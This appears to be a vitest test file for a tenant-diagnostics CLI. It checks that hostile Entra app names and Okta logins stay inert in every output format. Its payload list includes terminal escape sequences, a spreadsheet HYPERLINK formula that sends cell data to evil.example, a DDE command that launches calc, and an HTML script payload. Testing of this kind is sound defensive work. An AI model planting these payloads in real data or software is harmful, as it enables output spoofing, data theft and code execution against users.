/**
 * Hostile tenant data: an app registration's name and a user's UPN, login and email as an
 * attacker inside the tenant could set them. Every output stays inert: the diagnose table,
 * JSON and SARIF, `explain --snapshot`, CSV written with the shared writer, every export of
 * the documentation (Markdown, HTML, JSON, CSV), and `crosswalk diff` in every format.
 */
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { expect } from 'vitest'
import type { Finding } from '../../../src/shared/model'
import { toCsv } from '../../../src/shared/text/csv'
import { MAX_FINDING_TEXT, boundText } from '../../../src/shared/text/bound'
import { at, obj, seamSnapshot } from '../../fixtures/snapshots/seam-snapshot'
import { cli, parseCsv, UNSAFE_TEXT, type HostileCase } from './harness'

const HOSTILE_NAMES: readonly [string, string][] = [
  ['CSI: clear the screen and home the cursor', 'Okta IdP\u001b[2J\u001b[H'],
  ['OSC 0: retitle the terminal', 'Okta IdP\u001b]0;All clear\u0007'],
  [
    'OSC 8: a planted hyperlink',
    '\u001b]8;;https://evil.example/\u001b\\Open the fix\u001b]8;;\u001b\\',
  ],
  ['C1 CSI (8-bit)', 'Okta IdP\u009b2J\u009b31m'],
  ['DEL and backspaces', 'Okta IdP\u007f\b\b\b\bEvil'],
  ['BEL', 'Okta IdP\u0007\u0007'],
  ['NUL', 'Okta\u0000IdP'],
  ['a newline forging a "No findings." line', 'Okta IdP\nNo findings.\n'],
  ['a carriage return overwriting the line', 'Okta IdP\rNo findings.                    '],
  ['CRLF', 'Okta IdP\r\n0 findings'],
  ['Unicode line and paragraph separators', 'Okta\u2028IdP\u2029'],
  ['a right-to-left override', 'admin\u202egpj.exe'],
  ['bidi isolates', '\u2067Okta\u2069 IdP \u2066x\u2069'],
  ['bidi marks', 'Okta\u200e\u200f\u061cIdP'],
  ['a spreadsheet formula', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
  ['a DDE command', "+cmd|' /C calc'!A0"],
  ['a leading minus and at sign', '-2+3@SUM(1:1)'],
  ['a leading tab before a formula', '\t=1+1'],
  ['HTML and script', '<img src=x onerror=alert(1)><script>alert(2)</script>'],
  ['a lone surrogate', 'Okta \ud800 IdP'],
  ['quotes, backslashes and JSON breakers', '"},{"severity":"info","x":"\\'],
  ['__proto__ as the name', '__proto__'],
  ['a 64 KiB name', `Okta IdP ${'W'.repeat(64 * 1024)}`],
]

function hostileSnapshot(name: string) {
  return seamSnapshot((s) => {
    const app = s.entra?.applications?.[0] as Record<string, unknown>
    app['displayName'] = name
    const [secret] = app['passwordCredentials'] as Record<string, unknown>[]
    if (secret) secret['endDateTime'] = at(-1)
    const profile = obj(s.okta?.users?.[2], 'profile')
    profile['login'] = `carol${name}@contoso.com`
    profile['email'] = `carol${name}@contoso.com`
  })
}

/** Markdown with code spans and fenced blocks removed: what a renderer would parse as syntax. */
function markdownSyntax(text: string): string {
  return text.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '').replace(/(`+)[^`]*?\1/g, '')
}

/** Every export of the hostile snapshot: inert text, escaped markup, valid JSON, safe CSV. */
async function expectInertExports(
  file: string,
  cwd: string,
  i: number,
  shown: string,
): Promise<void> {
  const out = (ext: string) => path.join(cwd, `tenant-${i}-doc.${ext}`)
  for (const format of ['md', 'html', 'json'] as const) {
    const r = await cli(['export', file, '--format', format, '--out', out(format)], cwd)
    expect(r.code, r.err).toBe(0)
    expect(r.err).not.toMatch(UNSAFE_TEXT)
  }
  const md = await readFile(out('md'), 'utf8')
  expect(md).not.toMatch(UNSAFE_TEXT)
  // outside code, every markup character of a name is escaped
  expect(markdownSyntax(md)).not.toMatch(/(^|[^\\])<(img|script)/)
  const html = await readFile(out('html'), 'utf8')
  expect(html).not.toMatch(UNSAFE_TEXT)
  expect(html).not.toMatch(/<(img|script)/i)
  const json = await readFile(out('json'), 'utf8')
  expect(json).not.toMatch(UNSAFE_TEXT)
  const doc = JSON.parse(json) as { appRegistrations: { displayName: string }[] }
  expect(doc.appRegistrations.map((a) => a.displayName)).toContain(shown)
  const folder = path.join(cwd, `tenant-${i}-csv`)
  await mkdir(folder, { recursive: true })
  const csv = await cli(['export', file, '--format', 'csv', '--out', folder], cwd)
  expect(csv.code, csv.err).toBe(0)
  for (const name of ['findings.csv', 'credentials.csv', 'mappings.csv']) {
    const text = await readFile(path.join(folder, name), 'utf8')
    // CSV's own record breaks are CRLF; any other control is a value's
    expect(text.replace(/\r\n/g, '\n')).not.toMatch(UNSAFE_TEXT)
    expect(text).not.toMatch(
      // eslint-disable-next-line no-control-regex -- matching control characters is the point
      /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/,
    )
    // a number (days left, negative once expired) is a number; anything else never starts a formula
    for (const field of parseCsv(text).flat())
      if (!/^-?\d+(\.\d+)?$/.test(field)) expect(field).not.toMatch(/^[=+\-@\t\r]/)
  }
}

export function tenantDataCases(dir: () => string): HostileCase[] {
  return HOSTILE_NAMES.map(([kind, name], i) => ({
    category: 'tenant data' as const,
    kind,
    prepare: async () => {
      await writeFile(path.join(dir(), `tenant-${i}.json`), JSON.stringify(hostileSnapshot(name)))
      await writeFile(path.join(dir(), 'tenant-clean.json'), JSON.stringify(seamSnapshot()))
    },
    run: async () => {
      const file = `tenant-${i}.json`
      const table = await cli(['diagnose', file, '--format', 'table'], dir())
      expect(table.code, table.err).toBe(0)
      expect(table.out).not.toMatch(UNSAFE_TEXT)
      const rows = table.out.split('\n')
      const count = Number(/^(\d+) findings?:/m.exec(table.out)?.[1])
      // header, one row per finding, a blank line, the summary and the final newline
      expect(rows).toHaveLength(count + 4)
      expect(rows).not.toContain('No findings.')

      const json = await cli(['diagnose', file, '--format', 'json'], dir())
      expect(json.out).not.toMatch(UNSAFE_TEXT)
      const findings = JSON.parse(json.out) as Finding[]
      const names = findings.flatMap((f) => f.subjects.map((s) => s.name ?? ''))
      // rules show names trimmed, as Entra and Okta display them, and a huge one shortened
      const shown = boundText(name.trim(), MAX_FINDING_TEXT)
      expect(names).toContain(shown)
      expect(json.out.length).toBeLessThan(1024 * 1024)

      const sarif = await cli(['diagnose', file, '--format', 'sarif'], dir())
      expect(sarif.out).not.toMatch(UNSAFE_TEXT)
      expect((JSON.parse(sarif.out) as { version: string }).version).toBe('2.1.0')

      const explain = await cli(['explain', 'AADSTS7000222', '--snapshot', file], dir())
      expect(explain.code, explain.err).toBe(0)
      expect(explain.out).not.toMatch(UNSAFE_TEXT)
      expect(explain.out.split('\n')).not.toContain('No findings.')

      const csv = toCsv(
        ['rule', 'subject'],
        findings.flatMap((f) => f.subjects.map((s) => [f.rule, s.name ?? s.id])),
      )
      const records = parseCsv(csv)
      expect(records).toHaveLength(1 + findings.reduce((n, f) => n + f.subjects.length, 0))
      for (const field of records.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/)
      expect(records.map((r) => r[1])).toContain(/^[=+\-@\t\r]/.test(shown) ? `'${shown}` : shown)

      // documents keep a configuration value whole, as the tenant holds it
      await expectInertExports(file, dir(), i, name.trim())

      // the diff from the clean pair shows the renamed app, inert in every format
      for (const format of ['table', 'md', 'json'] as const) {
        const diff = await cli(['diff', 'tenant-clean.json', file, '--format', format], dir())
        expect(diff.code, diff.err).toBe(0)
        expect(diff.out).not.toMatch(UNSAFE_TEXT)
        if (format === 'md') expect(markdownSyntax(diff.out)).not.toMatch(/(^|[^\\])<(img|script)/)
        if (format === 'json')
          expect(
            (JSON.parse(diff.out) as { objects: { resource: string }[] }).objects.map(
              (o) => o.resource,
            ),
          ).toContain('entra.applications')
      }
    },
  }))
}
